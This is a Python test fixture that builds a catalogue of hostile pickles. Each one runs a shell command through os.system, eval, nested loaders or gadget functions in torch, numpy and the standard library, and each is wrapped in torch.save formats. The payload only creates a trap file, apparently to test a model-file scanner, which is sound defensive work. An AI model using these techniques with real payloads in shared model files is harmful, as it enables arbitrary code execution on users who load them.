"""Pickles that run code in a plain `pickle.load`: each makes the file `trap` when it runs."""

from __future__ import annotations

import io
import os
import pickle
import pickletools
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch


def _text(value: str) -> bytes:
    """Opcodes that push a string (protocol 2 and later)."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _global(name: str) -> bytes:
    module, _, attribute = name.rpartition(".")
    return f"c{module}\n{attribute}\n".encode()


def _call(name: str, *arguments: bytes) -> bytes:
    return _global(name) + b"(" + b"".join(arguments) + b"tR"


def _pickle(body: bytes, protocol: int = 2) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."


class _Reduced:
    def __init__(self, function: object, *arguments: object) -> None:
        self.call = function, arguments

    def __reduce__(self):
        return self.call


def pickles(trap: Path) -> dict[str, bytes]:
    """Hostile pickles by the technique; every one was seen to make ``trap`` (see the test)."""
    touch = f"touch {trap}"
    code = f"open({str(trap)!r}, 'w').close()"
    inner = pickle.dumps(_Reduced(os.system, touch), protocol=2)
    command, source = _text(touch), _text(code)
    return {
        "reduce, protocol 0": pickle.dumps(_Reduced(os.system, touch), protocol=0),
        "reduce, protocol 2": inner,
        "reduce, protocol 5": pickle.dumps(_Reduced(os.system, touch), protocol=5),
        "eval": _pickle(_call("builtins.eval", source)),
        "eval of Python 2": _pickle(_call("__builtin__.eval", source)),
        "inst": f"(S'{touch}'\nios\nsystem\n.".encode(),
        "obj": f"(cos\nsystem\nS'{touch}'\no.".encode(),
        # bytes(map(os.system, [touch])), made by __new__ alone
        "newobj": _pickle(
            b"cbuiltins\nbytes\n(cbuiltins\nmap\n(cos\nsystem\n(" + command + b"lt\x81t\x81"
        ),
        "newobj_ex": _pickle(
            b"cbuiltins\nbytes\n(cbuiltins\nmap\n(cos\nsystem\n(" + command + b"lt}\x92t}\x92",
            4,
        ),
        "build": _pickle(
            b"cargparse\nNamespace\n)\x81}"
            + _text("__setstate__")
            + b"cos\nsystem\nsb"
            + command
            + b"b"
        ),
        "pickle within a pickle": _pickle(
            _global("pickle.loads") + b"(B" + struct.pack("<I", len(inner)) + inner + b"tR", 3
        ),
        "name computed by a call": _pickle(
            _call("builtins.str", _text("os")) + _text("system") + b"\x93(" + command + b"tR", 4
        ),
        "name from the memo": _pickle(
            _text("os")
            + b"\x940"
            + _text("collections")
            + b"0"
            + _text("system")
            + b"\x940"
            + b"h\x00h\x01\x93("
            + command
            + b"tR",
            4,
        ),
        "name with dots": _pickle(
            _text("torch") + _text("serialization.os.system") + b"\x93(" + command + b"tR", 4
        ),
        "extension registry": _pickle(
            _call("copyreg.add_extension", _text("os"), _text("system"), b"K\xf0")
            + b"0\x82\xf0("
            + command
            + b"tR"
        ),
        "getattr": _pickle(
            _call(
                "builtins.getattr", _call("importlib.import_module", _text("os")), _text("system")
            )
            + b"("
            + command
            + b"tR"
        ),
        "partial": _pickle(_call("functools.partial", _global("os.system"), command) + b")R"),
        "attrgetter": _pickle(
            _call("operator.attrgetter", _text("system"))
            + b"("
            + _call("importlib.import_module", _text("os"))
            + b"tR("
            + command
            + b"tR"
        ),
        "a function of torch": _pickle(_call("torch.utils.collect_env.run", command)),
        "a function of numpy": _pickle(
            _call("numpy.testing._private.utils.runstring", source, b"}")
        ),
        "torch's loader within": _pickle(
            _global("torch.storage._load_from_bytes")
            + b"(B"
            + struct.pack("<I", len(legacy(inner)))
            + legacy(inner)
            + b"tR",
            3,
        ),
        "standard library": _pickle(_call("timeit.timeit", _text("pass"), source)),
        "not ended": inner[:-1],
        "second of two": pickle.dumps({"weight": [0.0]}, protocol=2) + inner,
    }


def legacy(first: bytes) -> bytes:
    """What `torch.save` wrote before 1.6, with ``first`` in the place of the dict."""
    stream = io.BytesIO()
    torch.save({}, stream, _use_new_zipfile_serialization=False)
    stream.seek(0)
    for _ in range(3):  # the magic number, the protocol, the system
        for _ in pickletools.genops(stream):
            pass
    head = stream.getvalue()[: stream.tell()]
    return head + first + pickle.dumps([], protocol=2)


def in_zip(first: bytes, **members: bytes) -> bytes:
    """What `torch.save` writes today, with ``first`` in the place of `data.pkl`."""
    stream = io.BytesIO()
    torch.save({"weight": torch.zeros(3)}, stream)
    made = io.BytesIO()
    with zipfile.ZipFile(stream) as archive, zipfile.ZipFile(made, "w") as other:
        for item in archive.infolist():
            body = archive.read(item)
            other.writestr(item.filename, first if item.filename.endswith("data.pkl") else body)
        for name, body in members.items():
            other.writestr(name, body)
    return made.getvalue()


CONTAINERS: dict[str, Callable[[bytes], bytes]] = {
    "bare": bytes,
    "zip": in_zip,
    "legacy": legacy,
}
